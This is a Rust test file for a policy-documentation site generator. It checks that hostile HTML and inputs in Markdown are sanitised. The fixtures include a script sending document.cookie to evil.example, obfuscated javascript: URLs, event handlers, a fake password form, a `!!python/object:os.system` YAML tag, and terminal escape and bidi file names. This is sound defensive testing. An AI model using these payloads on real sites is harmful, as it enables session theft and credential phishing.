//! What a hostile or careless author can no longer do to readers, reviewers and CI: run script
//! in a reader's browser through raw HTML, ping teams or load images from a pull-request
//! comment, blow a title up to megabytes, shadow a control with a document id, spoof a CI log
//! with escape or bidi characters in a file name, or smuggle YAML tags and invisible links.

mod common;

use common::*;

/// A policy written for GitHub, as real repositories write them (centred logo, badges,
/// `<details>`, `<kbd>`, CRLF line ends), with hostile HTML slipped in by one pull request.
fn github_style_body() -> String {
    [
        "<p align=\"center\">",
        "  <img src=\"assets/logo.png\" width=\"120\" alt=\"Acme\">",
        "</p>",
        "",
        "[![Status](https://img.shields.io/badge/status-approved-green)](https://github.com/acme/isms)",
        "",
        "## 🔐 Access rules",
        "",
        "Press <kbd>Ctrl</kbd>+<kbd>L</kbd> to lock your screen.<sup>1</sup>",
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
        "",
        "<img src=\"x.png\" onerror=\"alert(1)\" width=\"10\">",
        "",
        "<details><summary>Exceptions</summary>",
        "",
        "| System | Owner |",
        "|:--|--:|",
        "| Billing | <a href=\"javascript:alert(2)\">Finance</a> |",
        "",
        "</details>",
        "",
        "<iframe src=\"https://evil.example/frame\">frame text</iframe>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">data link</a>",
        "<div style=\"position:fixed;top:0\" onmouseover=\"steal()\">Overlay</div>",
        "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"pw\"></form>",
        "",
    ]
    .join("\r\n")
}

fn hostile_repo(config: &str) -> Repo {
    let repo = Repo::new();
    repo.write("ismsbook.toml", format!("{QUIET_GLOBALS}{config}"));
    repo.write("policies/assets/logo.png", b"\x89PNG\r\n\x1a\n");
    repo.write("policies/x.png", b"\x89PNG\r\n\x1a\n");
    repo.doc(
        "policies/access.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        &github_style_body(),
    );
    repo
}

/// The document bodies of a page (a document page has one, print.html one per document).
fn bodies(html: &str) -> String {
    html.split("<div class=\"body\">")
        .skip(1)
        .map(|rest| rest.split("</article>").next().unwrap_or(rest))
        .collect()
}

const NEVER_ON_A_PAGE: [&str; 12] = [
    "<script",
    "document.cookie",
    "onerror",
    "onmouseover",
    "javascript:",
    "<iframe",
    "frame text",
    "data:text/html",
    "position:fixed",
    "<form",
    "type=\"password\"",
    "evil.example",
];

#[test]
fn raw_html_is_sanitised_on_the_page_and_in_print_and_each_removal_is_a_note() {
    let repo = hostile_repo("");
    repo.build(&["--deny", "warnings"]).expect(0);
    let page = bodies(&repo.page("policies/access.html"));
    let print = bodies(&repo.page("print.html"));
    assert!(
        print.contains("<kbd>Ctrl</kbd>"),
        "the policy is in print.html"
    );
    for html in [&page, &print] {
        for bad in NEVER_ON_A_PAGE {
            assert!(!html.contains(bad), "`{bad}` reached a page:\n{html}");
        }
    }
    // What GitHub keeps is kept.
    for kept in [
        "<p align=\"center\">",
        // Written as its Markdown twin would be: from the site's root.
        "<img src=\"../policies/assets/logo.png\" width=\"120\" alt=\"Acme\">",
        "<kbd>Ctrl</kbd>",
        "<sup>1</sup>",
        "<details><summary>Exceptions</summary>",
        "<th style=\"text-align:left\">System</th>",
        "<a>Finance</a>",
        "<div>Overlay</div>",
        "<img src=\"../policies/x.png\" width=\"10\">",
        // The badge's empty link and the emoji heading's id survive as well.
        "<img src=\"https://img.shields.io/badge/status-approved-green\" alt=\"Status\">",
        "id=\"-access-rules\"",
    ] {
        assert!(page.contains(kept), "`{kept}` missing from\n{page}");
    }

    let (run, report) = repo.check(&["--deny", "warnings"]);
    run.expect(0);
    let notes: Vec<(u64, &str)> = report
        .with_code("raw-html-removed")
        .iter()
        .map(|f| (f.line.unwrap_or(0), f.message.as_str()))
        .collect();
    let body = Fm::new("POL-1").line("controls: [A.5.15]").body_line() - 1;
    assert_eq!(
        notes,
        [
            (
                body + 10,
                "raw HTML removed from the page: `<script>` element and its content"
            ),
            (
                body + 12,
                "raw HTML removed from the page: `onerror` event handler of `<img>`"
            ),
            (
                body + 18,
                "raw HTML removed from the page: `javascript:` URL in `href` of `<a>`"
            ),
            (
                body + 22,
                "raw HTML removed from the page: `<iframe>` element and its content"
            ),
            (
                body + 23,
                "raw HTML removed from the page: `data:` URL in `href` (only images may be data) of `<a>`"
            ),
            (
                body + 24,
                "raw HTML removed from the page: `style` attribute of `<div>`, `onmouseover` event handler of `<div>`"
            ),
            (
                body + 25,
                "raw HTML removed from the page: `<form>` element (its text is kept), `name` attribute of `<input>`"
            ),
        ],
        "{}",
        report.dump()
    );
    assert!(report
        .with_code("raw-html-removed")
        .iter()
        .all(|f| f.severity == "note" && f.document.as_deref() == Some("POL-1")));
    assert_eq!(report.summary_count("notes"), 7);
    assert_eq!(report.summary_count("errors"), 0);

    // Every CI format knows notes.
    let human = repo.check_human(&[]);
    assert!(
        human
            .stderr
            .contains("note[raw-html-removed]: raw HTML removed from the page: `<script>`"),
        "{}",
        human.stderr
    );
    assert!(human.stderr.contains(", 7 notes ("), "{}", human.stderr);
    let github = ismsbook(&["check", &path_str(repo.root()), "--format", "github"]);
    assert!(
        github
            .stdout
            .contains("::notice file=policies/access.md,line="),
        "{}",
        github.stdout
    );
    let sarif = ismsbook(&["check", &path_str(repo.root()), "--format", "sarif"]);
    assert!(sarif.stdout.contains("\"level\": \"note\""));
}

/// Script URLs however they are spelled or wherever a URL goes: entities, leading space, tabs
/// and line breaks inside the scheme, `srcset` candidates, and `cite`.
#[test]
fn obfuscated_script_urls_never_reach_a_page() {
    let body = [
        "<a href=\"  javascript:alert(1)\">a</a>",
        "<a href=\"&#106;avascript:alert(1)\">a</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
        "<a href=\"javascript&colon;alert(1)\">a</a>",
        "<a href=\"java\nscript:alert(1)\">a</a>",
        "<a href=\"VBScript:alert(1)\">a</a>",
        "<picture><source srcset=\"x.png 1x, javascript:alert(1) 2x\"><img src=\"x.png\"></picture>",
        "<q cite=\"javascript:alert(1)\">q</q>",
        "<blockquote cite=\"javascript:alert(1)\">b</blockquote>",
        "<del cite=\"vbscript:alert(1)\">d</del>",
        "",
    ]
    .join("\n");
    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    // The image is there: a raw `<img src>` to a missing file is a broken link.
    repo.write("policies/x.png", b"\x89PNG\r\n\x1a\n");
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        &body,
    );
    repo.build(&[]).expect(0);
    for page in ["policies/p.html", "print.html"] {
        let html = bodies(&repo.page(page)).to_ascii_lowercase();
        assert!(html.contains("<q>q</q>"), "{page}: {html}");
        for bad in ["script:", "alert"] {
            assert!(!html.contains(bad), "{page}: `{bad}` in {html}");
        }
    }
}

/// Builds a policy with `body`, whose raw HTML must be shown as text (not sanitised) with one
/// note saying `why`, where the raw HTML starts (`line` of the body, 0 for its first).
fn shown_as_text(name: &str, body: &str, why: &str, line: u64) {
    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    let fm = Fm::new("POL-1").line("controls: [A.5.15]");
    repo.doc("policies/p.md", &fm, body);
    repo.build(&[]).expect(0);
    let html = bodies(&repo.page("policies/p.html"));
    assert!(!html.contains("<script"), "{name}");
    assert!(
        html.contains("&lt;script&gt;alert(1)"),
        "{name}: shown as text"
    );
    let (_, report) = repo.check(&[]);
    let note = report.one("raw-html-removed", "policies/p.md");
    assert!(
        note.message
            .starts_with("raw HTML shown as text, not sanitised: ")
            && note.message.contains(why),
        "{name}: {}",
        note.message
    );
    assert_eq!(note.line, Some(fm.body_line() + line), "{name}");
}

/// Sanitising builds a tree whose cost grows with the square of its depth: 300,000 nested
/// `<div>`s (1.8 MB) took five minutes, and 50,000 nested quotes (`>>>…`, 50 kB) with one `<b>`
/// seven seconds. Deeper than the limit, the raw HTML is shown as text, at once, with a note.
#[test]
fn deeply_nested_raw_html_is_shown_as_text_not_sanitised_for_minutes() {
    let depth = 20_000;
    for (name, body, line) in [
        (
            "divs",
            format!(
                "{}<script>alert(1)</script>{}\n",
                "<div>".repeat(depth),
                "</div>".repeat(depth)
            ),
            0,
        ),
        (
            "quotes",
            format!(
                "{} deep\n\n<b>bold</b><script>alert(1)</script>\n",
                ">".repeat(depth)
            ),
            2,
        ),
    ] {
        shown_as_text(name, &body, "more than 512", line);
    }

    // Nesting a browser would show is sanitised as usual.
    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    let body = format!(
        "{}<b>kept</b><script>alert(1)</script>{}\n",
        "<div>".repeat(400),
        "</div>".repeat(400)
    );
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        &body,
    );
    repo.build(&[]).expect(0);
    let html = bodies(&repo.page("policies/p.html"));
    assert!(
        html.contains("<b>kept</b>") && !html.contains("alert"),
        "{html}"
    );
}

/// html5ever checks each attribute of a tag against the tag's others: a tag with 200,000
/// attributes took 38 s. A tag with more than 256, or one left open where its raw HTML ends
/// (so that the Markdown after it would become its attributes, one per word), is shown as text.
#[test]
fn tags_with_too_many_attributes_or_left_open_are_shown_as_text() {
    let many: String = (0..20_000).map(|i| format!(" a{i}=\">\"")).collect();
    let words: String = (0..20_000).map(|i| format!("w{i} ")).collect();
    for (name, body, why) in [
        (
            "attributes",
            format!("<div{many}>x</div>\n\n<script>alert(1)</script>\n"),
            "a tag has 20000 attributes, and more than 256 take too long to sanitise",
        ),
        (
            "open",
            format!("<div\n  align=\"center\"\n\n{words}\n\n<script>alert(1)</script>\n"),
            "a tag is still open where the raw HTML ends",
        ),
    ] {
        shown_as_text(name, &body, why, 0);
    }
    // A tag closed on the next line of its HTML block is an ordinary tag.
    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        "<div\n  align=\"center\">\n\n**kept**\n\n</div>\n",
    );
    repo.build(&[]).expect(0);
    let html = bodies(&repo.page("policies/p.html"));
    assert!(html.contains("<div align=\"center\">"), "{html}");
}

/// Markdown's heading attributes (`{#id .class key=value}`) are written as HTML attributes, in
/// a body that may hold no raw HTML at all: they are sanitised like raw HTML.
#[test]
fn heading_attributes_cannot_carry_script() {
    let body =
        "# Hello {#top onclick=alert(1) style=\"position:fixed\" title=t}\n\n## Plain\n\nText.\n";
    for config in ["", "[markdown]\nraw_html = \"escape\"\n"] {
        let repo = Repo::new();
        repo.write("ismsbook.toml", format!("{QUIET_GLOBALS}{config}"));
        repo.doc(
            "policies/p.md",
            &Fm::new("POL-1").line("controls: [A.5.15]"),
            body,
        );
        repo.build(&[]).expect(0);
        for page in ["policies/p.html", "print.html"] {
            let html = bodies(&repo.page(page));
            assert!(html.contains("Hello"), "{page}: {html}");
            assert!(!html.contains("onclick"), "{page}: {html}");
            assert!(!html.contains("position:fixed"), "{page}: {html}");
        }
        assert!(bodies(&repo.page("policies/p.html")).contains("<h1 id=\"top\""));
    }

    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        body,
    );
    let (run, report) = repo.check(&[]);
    run.expect(0);
    let notes: Vec<(u64, &str)> = report
        .with_code("raw-html-removed")
        .iter()
        .map(|f| (f.line.unwrap_or(0), f.message.as_str()))
        .collect();
    assert_eq!(
        notes,
        [(
            Fm::new("POL-1").line("controls: [A.5.15]").body_line(),
            "raw HTML removed from the page: `onclick` event handler of `<h1>`, `style` attribute of `<h1>`"
        )],
        "{}",
        report.dump()
    );

    // Thousands of attributes: the note names a few (listing all took seconds, and its text
    // grew with the square of their number).
    let many: Vec<String> = (0..50_000).map(|i| format!("a{i}=1")).collect();
    let repo = Repo::new();
    repo.write("ismsbook.toml", QUIET_GLOBALS);
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        &format!("# Many {{{}}}\n", many.join(" ")),
    );
    repo.build(&[]).expect(0);
    assert!(!repo.page("policies/p.html").contains("a1=\"1\""));
    let (_, report) = repo.check(&[]);
    let notes = report.with_code("raw-html-removed");
    assert_eq!(notes.len(), 1, "{}", report.dump());
    assert!(
        notes[0]
            .message
            .ends_with("`a7` attribute of `<h1>`, and more"),
        "{}",
        notes[0].message.chars().take(500).collect::<String>()
    );

    // Trusted: as written.
    let repo = Repo::new();
    repo.write(
        "ismsbook.toml",
        format!("{QUIET_GLOBALS}[markdown]\nraw_html = \"trusted\"\n"),
    );
    repo.doc(
        "policies/p.md",
        &Fm::new("POL-1").line("controls: [A.5.15]"),
        body,
    );
    repo.build(&[]).expect(0);
    assert!(bodies(&repo.page("policies/p.html")).contains("onclick=\"alert(1)\""));
}

#[test]
fn raw_html_can_be_shown_as_text_or_trusted_by_configuration() {
    let repo = hostile_repo("[markdown]\nraw_html = \"escape\"\n");
    repo.build(&[]).expect(0);
    let page = bodies(&repo.page("policies/access.html"));
    assert!(!page.contains("<script"), "{page}");
    assert!(
        page.contains("&lt;script&gt;fetch("),
        "shown as text: {page}"
    );
    assert!(page.contains("&lt;kbd&gt;Ctrl&lt;/kbd&gt;"));
    let (_, report) = repo.check(&[]);
    assert!(report.with_code("raw-html-removed").is_empty());

    // Trusted: as written, for organisations whose every author may run script (the README
    // says what that means), and nothing to note.
    let repo = hostile_repo("[markdown]\nraw_html = \"trusted\"\n");
    repo.build(&[]).expect(0);
    let page = bodies(&repo.page("policies/access.html"));
    assert!(page.contains("<script>fetch("), "{page}");
    let (_, report) = repo.check(&[]);
    assert!(report.with_code("raw-html-removed").is_empty());

    let repo = hostile_repo("[markdown]\nraw_html = \"allow\"\n");
    let run = repo.build(&[]);
    run.expect(2);
    assert!(run.stderr.contains("raw_html"), "{}", run.stderr);
}

#[test]
fn a_huge_title_is_refused_and_does_not_multiply_through_the_site() {
    let repo = Repo::new();
    repo.quiet_globals();
    let title = "Access ".repeat(160_000); // 1.1 MB
    repo.doc(
        "policies/big.md",
        &Fm::new("POL-9").title(&title),
        "# Access control\n\nText.\n",
    );
    for i in 0..5 {
        repo.doc(
            &format!("policies/p{i}.md"),
            &Fm::new(&format!("POL-{i}")),
            "Body.\n",
        );
    }
    let (run, report) = repo.check(&[]);
    run.expect(1);
    let f = report.one("invalid-front-matter", "policies/big.md");
    assert_eq!(
        f.message,
        "title: 1119999 characters long; at most 300 are allowed"
    );
    assert_eq!(f.line, Some(3));
    repo.build(&[]).expect(1);
    let site_bytes: u64 = all_files(&repo.out())
        .iter()
        .map(|f| std::fs::metadata(repo.out().join(f)).map_or(0, |m| m.len()))
        .sum();
    assert!(
        site_bytes < 2_000_000,
        "the title was repeated across the site: {site_bytes} bytes"
    );
    // The page goes by the body's first heading instead.
    assert!(repo.page("documents/index.html").contains("Access control"));

    // Line breaks in one-line fields, and too many tags.
    let repo = Repo::new();
    repo.quiet_globals();
    let tags: Vec<String> = (0..101).map(|i| format!("t{i}")).collect();
    repo.doc(
        "p.md",
        &Fm::new("POL-1")
            .owner("\"CISO\\n* @mallory\"")
            .line(&format!("tags: [{}]", tags.join(", "))),
        "x\n",
    );
    let (_, report) = repo.check(&[]);
    let messages: Vec<&str> = report
        .with_code("invalid-front-matter")
        .iter()
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(
        messages,
        [
            "owner: \"CISO\\n* @mallory\" holds a line break or another control character",
            "tags: 101 entries; at most 100 are allowed"
        ]
    );
}

#[test]
fn a_document_id_that_is_a_control_id_is_a_finding() {
    let repo = Repo::new();
    repo.quiet_globals();
    repo.doc("policies/a.md", &Fm::new("A.5.15"), "See [[A.5.15]].\n");
    repo.doc("policies/b.md", &Fm::new("\"5.1\""), "x\n");
    let (run, report) = repo.check(&[]);
    run.expect(1);
    let a = report.one("duplicate-id", "policies/a.md");
    assert_eq!(
        a.message,
        "id `A.5.15` is the id of Annex A control A.5.15 (Access control): `[[A.5.15]]` links the control, never this document"
    );
    assert_eq!((a.line, a.column), (Some(2), Some(1)));
    let b = report.one("duplicate-id", "policies/b.md");
    assert!(
        b.message.contains("Annex A control A.5.1 "),
        "{}",
        b.message
    );
}

#[test]
fn escape_and_bidi_characters_in_file_names_are_spelled_out_in_every_text_format() {
    let repo = Repo::new();
    repo.quiet_globals();
    // ESC [2J clears the screen; U+202E reverses what follows ("dm.txt" reads "txt.md").
    let name = "policies/ok\u{1b}[2J\u{202e}dm.txt\u{200b}.md";
    repo.doc(name, &Fm::new("POL-1"), "[gone](missing.md)\n");
    let spelled = "policies/ok\\u{1b}[2J\\u{202e}dm.txt\\u{200b}.md";
    let human = repo.check_human(&[]);
    assert!(
        human.stderr.contains(&format!("--> {spelled}:10:1")),
        "{}",
        human.stderr
    );
    // The quoted line is still found (the real name is looked up).
    assert!(
        human.stderr.contains("10 | [gone](missing.md)"),
        "{}",
        human.stderr
    );
    for format in ["github", "markdown"] {
        let run = ismsbook(&["check", &path_str(repo.root()), "--format", format]);
        assert!(
            !run.stdout.contains('\u{1b}') && !run.stdout.contains('\u{202e}'),
            "{format}: {:?}",
            run.stdout
        );
        assert!(
            run.stdout.contains("\\u{1b}") && run.stdout.contains("\\u{202e}"),
            "{format}: {}",
            run.stdout
        );
    }
}

#[test]
fn yaml_tags_and_invisible_links_are_findings() {
    let repo = Repo::new();
    repo.quiet_globals();
    repo.doc(
        "policies/a.md",
        &Fm::new("POL-1").line("approver: !!binary Qm9hcmQ="),
        "# A\n\nSee [[POL-2|]] and [](b.md) and [![logo](logo.png)](b.md).\n",
    );
    repo.write("policies/logo.png", b"\x89PNG\r\n\x1a\n");
    repo.doc(
        "policies/b.md",
        &Fm::new("POL-2").title("Backup policy"),
        "x\n",
    );
    repo.doc(
        "policies/c.md",
        &Fm::new("POL-3").line("tags: [!!python/object:os.system x]"),
        "x\n",
    );
    let (_, report) = repo.check(&[]);
    let tag = report.one("invalid-front-matter", "policies/a.md");
    assert_eq!(
        tag.message,
        "front matter: the YAML tag `!!binary` is not supported (its value would be read as plain text)"
    );
    assert_eq!(tag.line, Some(9));
    assert!(report
        .one("invalid-front-matter", "policies/c.md")
        .message
        .contains("`!!python/object:os.system`"));
    let empty: Vec<(u64, u64, &str)> = report
        .with_code("empty-link-text")
        .iter()
        .map(|f| (f.line.unwrap(), f.column.unwrap(), f.message.as_str()))
        .collect();
    assert_eq!(
        empty,
        [
            (
                13,
                5,
                "`[[POL-2|]]` has no text after `|`; the page shows the title of `POL-2` instead"
            ),
            (
                13,
                20,
                "link to `b.md` has no text, so readers cannot see or click it"
            ),
        ]
    );
    repo.build(&[]).expect(1);
    let page = bodies(&repo.page("policies/a.html"));
    assert!(
        page.contains("<a href=\"../policies/b.html\">Backup policy</a>"),
        "{page}"
    );
}

#[test]
fn a_non_finite_number_is_named_as_written() {
    let repo = Repo::new();
    repo.quiet_globals();
    repo.doc(
        "p.md",
        &Fm::new("POL-1").line("review_interval: .inf"),
        "x\n",
    );
    repo.doc(
        "q.md",
        &Fm::new("POL-2").line("review_interval: 1e3"),
        "x\n",
    );
    let (_, report) = repo.check(&[]);
    assert_eq!(
        report.one("invalid-front-matter", "p.md").message,
        "review_interval: .inf is less than the minimum of 1"
    );
    assert_eq!(
        report.one("invalid-front-matter", "q.md").message,
        "review_interval: 1e3 is more than the maximum of 120"
    );
}

/// A pull-request comment must not notify people, load remote images or link anywhere because
/// of what a document's title says.
#[test]
fn pull_request_comments_cannot_mention_or_load_images() {
    let repo = Repo::new();
    repo.quiet_globals();
    let title = "\"Ping @acme/board and @ceo ![x](https://evil.example/p.png) [login](https://evil.example) mail ciso@acme.example\"";
    repo.doc("p.md", &Fm::new("POL-1"), "x\n");
    let git = |args: &[&str]| git(repo.root(), args);
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "first"]);
    repo.doc("p.md", &Fm::new("POL-1").title(title), "x\n");
    let run = ismsbook(&[
        "diff",
        "HEAD",
        "-C",
        &path_str(repo.root()),
        "--today",
        TODAY,
    ]);
    run.expect(0);
    let text = &run.stdout;
    assert!(
        text.contains("Ping @&#8203;acme/board and @&#8203;ceo"),
        "{text}"
    );
    let live_mention = text.char_indices().any(|(i, c)| {
        c == '@'
            && !text[..i]
                .chars()
                .next_back()
                .is_some_and(|p| p.is_alphanumeric())
            && text[i + 1..]
                .chars()
                .next()
                .is_some_and(char::is_alphanumeric)
    });
    assert!(!live_mention, "{text}");
    assert!(!text.contains("![x]("), "an image would load: {text}");
    assert!(!text.contains("[login]("), "a link would be live: {text}");
    assert!(
        text.contains("!\\[x\\](https://evil.example/p.png)"),
        "{text}"
    );
    // E-mail addresses are not mentions and stay as written.
    assert!(text.contains("ciso@acme.example"), "{text}");
}
